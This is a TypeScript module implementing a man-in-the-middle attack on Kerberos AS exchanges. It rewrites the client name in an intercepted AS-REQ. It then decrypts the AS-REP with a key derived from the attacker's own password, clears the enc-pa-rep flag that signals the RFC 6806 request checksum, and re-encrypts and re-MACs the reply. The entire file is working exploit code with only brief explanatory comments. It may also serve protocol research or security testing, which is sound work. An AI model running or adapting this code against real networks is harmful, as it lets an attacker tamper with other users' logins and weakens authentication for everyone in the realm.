// An attack by a user of the realm who controls the network. The KDC answers somebody else's login
// for the attacker's own account. The attacker needs only their own password.
//
// The name in an AS-REQ is not protected. The reply has a checksum of the request (RFC 6806,
// section 11), but a key made from the attacker's own password encrypts the reply. So the attacker
// can clear the flag that announces the checksum.

import { createCipheriv, createDecipheriv, createHmac, pbkdf2Sync } from 'node:crypto';

/** RFC 3961, section 5.1: constants, folded to the block's 16 bytes. */
const FOLDED = {
  kerberos: Buffer.from('6b65726265726f737b9b5b2b93132b93', 'hex'),
  /** Key usage 3, the encrypted part of an AS-REP: for encryption (0xaa), for integrity (0x55). */
  encryption: Buffer.from('be349a4d24be500eaf57abd5ea80757a', 'hex'),
  integrity: Buffer.from('6b60b0582a6ba80d5aad56ab55406ad5', 'hex'),
};
const MAC = 12;
/** EncKDCRepPart.flags, [4] BIT STRING: enc-pa-rep is bit 15. */
const FLAGS = Buffer.from('a407030500', 'hex');
const ENC_PA_REP = 0x01;

/** Replaces `from` with `to`, which has the same length. */
export function renameClient(request: Buffer, from: string, to: string): void {
  const name = (text: string) => Buffer.from([0x1b, text.length, ...Buffer.from(text)]);
  const at = request.indexOf(name(from));
  if (at >= 0) name(to).copy(request, at);
}

/** Clears the flag in an AS-REP for a user with an aes256-cts-hmac-sha1-96 key (RFC 3962). */
export function clearEncPaRep(
  reply: Buffer,
  user: string,
  password: string,
  realm: string,
): Buffer {
  const made = pbkdf2Sync(password, realm + user, 4096, 32, 'sha1');
  const key = derive(made, FOLDED.kerberos);
  const [encryption, integrity] = [derive(key, FOLDED.encryption), derive(key, FOLDED.integrity)];
  const mac = (text: Buffer) =>
    createHmac('sha1', integrity).update(text).digest().subarray(0, MAC);

  // The encrypted part is the last element of the message: an OCTET STRING at its end.
  const start = reply.findLastIndex(
    (byte, i) =>
      byte === 0x04 && reply[i + 1] === 0x82 && i + 4 + reply.readUInt16BE(i + 2) === reply.length,
  );
  const text = decrypt(encryption, reply.subarray(start + 4, -MAC));
  if (!mac(text).equals(reply.subarray(-MAC))) throw new Error('not a reply to this user');
  const flags = text.indexOf(FLAGS) + FLAGS.length + 1;
  text.writeUInt8(text.readUInt8(flags) & ~ENC_PA_REP, flags);
  return Buffer.concat([reply.subarray(0, start + 4), encrypt(encryption, text), mac(text)]);
}

function block(key: Buffer, data: Buffer, make: typeof createCipheriv | typeof createDecipheriv) {
  const cipher = make('aes-256-ecb', key, null).setAutoPadding(false);
  return Buffer.concat([cipher.update(data), cipher.final()]);
}

const xor = (a: Buffer, b: Buffer) => Buffer.from(a.map((byte, i) => byte ^ (b[i] ?? 0)));

/** DK of RFC 3961, section 5.1. */
function derive(key: Buffer, constant: Buffer): Buffer {
  const first = block(key, constant, createCipheriv);
  return Buffer.concat([first, block(key, first, createCipheriv)]);
}

/** CBC with ciphertext stealing and a zero vector: RFC 3962, section 5. */
function encrypt(key: Buffer, text: Buffer): Buffer {
  const rest = text.length % 16 || 16;
  const cipher = createCipheriv('aes-256-cbc', key, Buffer.alloc(16)).setAutoPadding(false);
  const all = Buffer.concat([cipher.update(text), cipher.update(Buffer.alloc(16 - rest))]);
  const last = all.subarray(-16);
  return Buffer.concat([all.subarray(0, -32), last, all.subarray(-32, -32 + rest)]);
}

function decrypt(key: Buffer, sealed: Buffer): Buffer {
  const rest = sealed.length % 16 || 16;
  const head = sealed.subarray(0, sealed.length - 16 - rest);
  const [swapped, stolen] = [sealed.subarray(head.length, -rest), sealed.subarray(-rest)];
  const tail = block(key, swapped, createDecipheriv);
  const before = Buffer.concat([stolen, tail.subarray(rest)]);
  const cipher = createDecipheriv('aes-256-cbc', key, Buffer.alloc(16)).setAutoPadding(false);
  return Buffer.concat([
    cipher.update(head),
    cipher.update(before),
    xor(tail, stolen).subarray(0, rest),
  ]);
}
